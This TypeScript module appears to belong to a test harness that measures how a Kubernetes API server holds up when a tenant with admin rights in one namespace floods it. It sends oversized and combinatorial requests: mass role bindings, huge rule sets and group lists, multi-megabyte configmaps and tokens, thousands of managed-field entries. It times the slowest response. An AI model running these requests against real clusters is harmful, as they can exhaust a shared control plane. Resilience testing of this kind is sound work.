/** What somebody can do who has all rights in one namespace, and none beyond it. */
import { type AttackOutcome, oneAfterAnother, type Request, repeatedly, scaled, type WholeAttack } from './attack-outcome.ts'
import { send, type Target } from './attack-run.ts'

const namespace = 'attack-access'
const inNamespace = `/api/v1/namespaces/${namespace}`
const rbac = '/apis/rbac.authorization.k8s.io/v1'
const rbacHere = `${rbac}/namespaces/${namespace}`
const rbacGroup = 'rbac.authorization.k8s.io'
const account = { kind: 'ServiceAccount', name: 'tenant', namespace }
const named = (name: string) => ({ metadata: { name } })
const numbered = (prefix: string, count: number) => Array.from({ length: count }, (_, index) => `${prefix}${index}`)

export const tenant: WholeAttack = async (target, scale) => {
  const admin = await tenantOf(target)
  const count = scaled(1000, scale)
  const bound = await oneAfterAnother(admin, bindings(count))
  const asked = await repeatedly(scale, () => oneAfterAnother(admin, questions(scale)))
  const tokens = await repeatedly(scale, () => largeToken(admin, scaled(30_000, scale)))
  await send(target, 'DELETE', `/api/v1/namespaces/${namespace}`)
  await send(target, 'DELETE', `${rbac}/clusterrolebindings/${namespace}`)
  const parts = [bound, asked, tokens]
  return {
    requests: parts.reduce((sum, { requests }) => sum + requests, 0),
    slowestMs: Math.max(...parts.map(({ slowestMs }) => slowestMs)),
    answered: Math.max(...parts.map(({ answered }) => answered)),
  }
}

/** A service account that has the role `admin` there, and may ask whose a token is, as the servers of a tenant do. */
async function tenantOf(target: Target): Promise<Target> {
  const roleRef = (name: string) => ({ apiGroup: rbacGroup, kind: 'ClusterRole', name })
  const bodies: [string, object][] = [
    ['/api/v1/namespaces', named(namespace)],
    [`${inNamespace}/serviceaccounts`, named(account.name)],
    [`${rbacHere}/rolebindings`, { ...named('tenant'), roleRef: roleRef('admin'), subjects: [account] }],
    [`${rbac}/clusterrolebindings`, { ...named(namespace), roleRef: roleRef('system:auth-delegator'), subjects: [account] }],
  ]
  for (const [path, body] of bodies) {
    const { status, text } = await send(target, 'POST', path, JSON.stringify(body))
    if (status !== 201 && status !== 409) throw new Error(`POST ${path}: ${status} ${text}`)
  }
  const { text } = await send(target, 'POST', `${inNamespace}/serviceaccounts/${account.name}/token`, '{"spec":{}}')
  return { ...target, token: (JSON.parse(text) as { status: { token: string } }).status.token }
}

/** Each to oneself: half of them to the role that one has, half to a role that is deleted afterwards. */
function* bindings(count: number): Generator<Request> {
  const rule = { verbs: ['get'], apiGroups: [''], resources: ['pods'] }
  for (let index = 0; index < count; index++) {
    const name = index % 2 === 0 ? 'admin' : `gone${index}`
    const kind = index % 2 === 0 ? 'ClusterRole' : 'Role'
    if (kind === 'Role') yield ['POST', `${rbacHere}/roles`, JSON.stringify({ ...named(name), rules: [rule] })]
    const binding = { ...named(`b${index}`), roleRef: { apiGroup: rbacGroup, kind, name }, subjects: [account] }
    yield ['POST', `${rbacHere}/rolebindings`, JSON.stringify(binding)]
    if (kind === 'Role') yield ['DELETE', `${rbacHere}/roles/${name}`, '']
  }
}

const questions = (scale: number): Request[] => {
  const reviews = '/apis/authorization.k8s.io/v1'
  const product = {
    verbs: numbered('v', 200),
    apiGroups: numbered('g', 200),
    resources: numbered('r', 200),
    resourceNames: numbered('n', 200),
  }
  const held = { verbs: ['get', 'list'], apiGroups: [''], resources: ['pods'], resourceNames: numbered('n', scaled(20_000, scale)) }
  const groups = numbered('g', scaled(30_000, scale))
  const owners = (operation: string) => ownedByMany(scaled(8000, scale), operation)
  const configMaps = `${inNamespace}/configmaps`
  return [
    ['POST', `${rbacHere}/roles`, JSON.stringify({ ...named('product'), rules: [product] })],
    ['POST', `${rbacHere}/roles?dryRun=All`, JSON.stringify({ ...named('held'), rules: [held, product] })],
    ['POST', `${reviews}/selfsubjectrulesreviews`, JSON.stringify({ spec: { namespace } })],
    ['POST', `${reviews}/selfsubjectaccessreviews`, JSON.stringify({ spec: { resourceAttributes: { namespace, verb: 'fly' } } })],
    [
      'POST',
      `${reviews}/namespaces/${namespace}/localsubjectaccessreviews`,
      JSON.stringify({ spec: { user: 'u', groups, extra: { e: groups.slice(1) }, resourceAttributes: { namespace, verb: 'get' } } }),
    ],
    ['GET', '/api/v1/nodes', ''],
    ['POST', configMaps, JSON.stringify({ ...named('long'), data: { [`${performance.now()}${'x'.repeat(2_900_000 * scale)}`]: '' } })],
    ['POST', configMaps, owners('Update')],
    ['PUT', `${configMaps}/owned`, owners('Apply')],
    ['PATCH', `${configMaps}/owned?fieldManager=m0&force=true`, applied, 'application/apply-patch+yaml'],
    ['DELETE', `${configMaps}/owned`, ''],
  ]
}

const applied = JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', ...named('owned'), data: { other: 'x' } })

function ownedByMany(count: number, operation: string): string {
  const keys = numbered('k', count)
  const entry = { operation, apiVersion: 'v1', time: '2026-01-01T00:00:00Z', fieldsType: 'FieldsV1' }
  const managedFields = keys.map((key, index) => ({ ...entry, manager: `m${index}`, fieldsV1: { 'f:data': { [`f:${key}`]: {} } } }))
  return JSON.stringify({ metadata: { name: 'owned', managedFields }, data: Object.fromEntries(keys.map((key) => [key, operation])) })
}

/** A token for so many audiences, shown to the server with all of them in another order. */
async function largeToken(admin: Target, count: number): Promise<AttackOutcome> {
  const audiences = numbered('audience-', count)
  const path = `${inNamespace}/serviceaccounts/${account.name}/token`
  const startedMs = performance.now()
  const { text, bytes } = await send(admin, 'POST', path, JSON.stringify({ spec: { audiences } }))
  const tookMs = performance.now() - startedMs
  const { token } = (JSON.parse(text) as { status: { token: string } }).status
  const reviews = [{ token, audiences: audiences.toReversed() }, { token }, { token: '.'.repeat(2_900_000) }]
  const { requests, slowestMs, answered } = await oneAfterAnother(
    admin,
    reviews.map((spec): Request => ['POST', '/apis/authentication.k8s.io/v1/tokenreviews', JSON.stringify({ spec })]),
  )
  return { requests: requests + 1, slowestMs: Math.max(slowestMs, tookMs), answered: Math.max(answered, bytes) }
}
